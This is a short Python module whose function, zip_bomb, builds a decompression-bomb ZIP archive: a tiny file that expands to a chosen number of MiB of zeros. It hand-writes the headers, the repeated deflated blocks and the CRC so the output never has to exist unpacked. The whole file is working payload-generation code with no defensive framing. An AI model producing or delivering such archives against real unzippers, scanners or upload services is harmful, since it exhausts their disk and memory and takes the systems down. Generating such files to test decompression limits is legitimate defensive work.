"""Archives far larger inside than out, made without ever holding what they unpack to."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

BLOCK = 1 << 20  # bytes of zeros in one deflated block, repeated as often as needed
END_OF_DATA = b"\x03\0"  # RFC 1951, 3.2.6: a final block that holds nothing
VERSION, DEFLATED, FIRST_DAY = 20, 8, 0x21


def zip_bomb(path: Path, blocks: int) -> None:
    """One member of ``blocks`` MiB of zeros, about 1 KiB of file for each."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    name = b"zeros.bin"
    size, packed = blocks * BLOCK, blocks * len(block) + len(END_OF_DATA)
    fields = struct.pack(
        "<HHHHHIIIHH",
        *(VERSION, 0, DEFLATED, 0, FIRST_DAY, _checksum(blocks), packed, size, len(name), 0),
    )
    entry = struct.pack("<4sH", b"PK\x01\x02", VERSION) + fields + bytes(14) + name
    start = 4 + len(fields) + len(name) + packed
    with path.open("wb") as file:
        file.write(b"PK\x03\x04" + fields + name)
        for _ in range(blocks):
            file.write(block)
        file.write(END_OF_DATA + entry)
        file.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), start, 0))


def _checksum(blocks: int) -> int:
    zeros, checksum = bytes(BLOCK), 0
    for _ in range(blocks):
        checksum = zlib.crc32(zeros, checksum)
    return checksum
